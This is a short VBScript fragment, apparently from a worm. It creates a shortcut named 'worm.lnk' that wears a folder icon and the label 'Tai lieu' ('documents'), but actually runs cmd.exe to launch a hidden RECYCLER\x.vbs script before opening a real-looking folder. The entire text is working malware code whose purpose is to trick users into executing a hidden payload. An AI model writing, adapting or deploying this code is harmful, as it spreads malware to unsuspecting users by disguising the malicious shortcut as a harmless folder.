Set sh = CreateObject("WScript.Shell")
Set l = sh.CreateShortcut("C:\worm.lnk")
l.TargetPath = "C:\windows\system32\cmd.exe"
l.Arguments = "/c start RECYCLER\x.vbs & start explorer Tai lieu"
l.IconLocation = "C:\windows\system32\shell32.dll,3"
l.WorkingDirectory = "C:\"
l.Description = "Tai lieu"
l.WindowStyle = 7
l.Save
